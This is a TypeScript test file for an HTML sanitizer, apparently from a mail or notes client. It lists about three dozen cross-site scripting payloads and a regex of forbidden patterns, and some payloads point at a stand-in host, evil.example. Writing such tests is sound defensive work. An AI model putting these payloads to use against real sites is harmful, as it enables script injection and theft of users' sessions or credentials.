import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitizeHtml } from "./sanitize-html.ts";

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src=x:alert(1) onerror=eval(src)>",
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/><a id="x"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="/api/v1/sign-out">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="data:text/html;base64,PHN2Zy8+">',
  '<img src="/api/v1/session/end">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/x.css";</style>',
  '<div style="position:fixed;top:0;left:0;z-index:9999;background-image:url(https://evil.example/x)">over</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))" onclick="alert(1)" id="root" class="ant-btn" name="cookie">x</div>',
  "<table background='https://evil.example/t.gif'><tr><td>x</td></tr></table>",
  '<img srcset="https://evil.example/a 1x" src="https://evil.example/b">',
  "<p/onmouseover=alert(1)>x</p>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  '<details open ontoggle="alert(1)">x</details>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  "<textarea></textarea><img src=x onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

const FORBIDDEN =
  /<\s*(?:script|style|svg|math|iframe|object|embed|form|input|button|base|meta|link|template|details|xmp|noscript|textarea)|<[^>]*\son\w+\s*=|(?:href|src)\s*=\s*["']?\s*(?:javascript|vbscript|data:text|data:image\/svg|\/)|position|expression|url\(|srcset|background=|\sid=|\sclass=|\sname=/i;

/** REQ: IN-01 */
describe("sanitizeHtml", () => {
  it.each(ATTACKS)("leaves nothing alive of %s", (attack) => {
    const once = sanitizeHtml(attack);
    expect(once).not.toMatch(FORBIDDEN);
    // What a browser reads back is clean too: cleaning is a fixed point.
    expect(sanitizeHtml(once).replaceAll("data-remote-src", "")).not.toMatch(FORBIDDEN);
  });

  it("keeps what a mail needs", () => {
    const mail =
      '<p style="color:#f00;text-align:center">您好 <b>张三</b></p><table border="1"><tr><td colspan="2">a</td></tr></table>';
    expect(sanitizeHtml(mail)).toBe(
      '<p style="color:#f00;text-align:center">您好 <b>张三</b></p><table border="1"><tr><td colspan="2">a</td></tr></table>',
    );
  });

  it("answers for plain paragraphs what it answers for those behind another element", () => {
    const signs = fc.constantFrom("&", "&lt;", "<", ">", '"', "\0", "\n", "<b>", "</p>", "<script>", "<p id=x>");
    const text = fc.oneof({ weight: 4, arbitrary: fc.string({ unit: "binary" }) }, signs);
    const paragraphs = fc.array(fc.oneof({ weight: 9, arbitrary: text.map((words) => `<p>${words}</p>`) }, text));
    fc.assert(
      fc.property(paragraphs, (pieces) => {
        const html = pieces.join("");
        expect(sanitizeHtml(`<i></i>${html}`)).toBe(`<i></i>${sanitizeHtml(html)}`);
      }),
      { examples: [[["<p>R&D</p>"]], [["<p>好</p>", "<p>&lt;b&gt;</p>"]]] },
    );
  });

  it("lets remote images wait and never trusts a waiting one it did not make", () => {
    expect(sanitizeHtml('<img src="https://t.example/pixel.gif" alt="a">')).toBe(
      '<img alt="a" data-remote-src="https://t.example/pixel.gif" />',
    );
    expect(sanitizeHtml('<img src="//t.example/p.gif">')).toBe('<img data-remote-src="https://t.example/p.gif" />');
    expect(sanitizeHtml('<img data-remote-src="javascript:alert(1)">')).toBe("");
  });

  it("maps cid images to their files and drops those without one", () => {
    const cidUrl = (cid: string): string | null => (cid === "i1@x" ? "/files/1" : null);
    expect(sanitizeHtml('<img src="cid:i1%40x">', { cidUrl })).toBe('<img src="/files/1" />');
    expect(sanitizeHtml('<img src="cid:other">', { cidUrl })).toBe("");
  });

  it("opens links apart", () => {
    expect(sanitizeHtml('<a href="https://a.example">x</a>')).toBe(
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it("keeps own images and mentions in notes alone", () => {
    const note = '<img src="/api/v1/attachments/1"><span data-type="mention" data-id="7">@李</span>';
    const kept = sanitizeHtml(note, { mentions: true, isOwnImage: (src) => src.startsWith("/api/v1/attachments/") });
    expect(kept).toBe('<img src="/api/v1/attachments/1" /><span data-type="mention" data-id="7">@李</span>');
    expect(sanitizeHtml(note)).toBe("<span>@李</span>");
  });
});
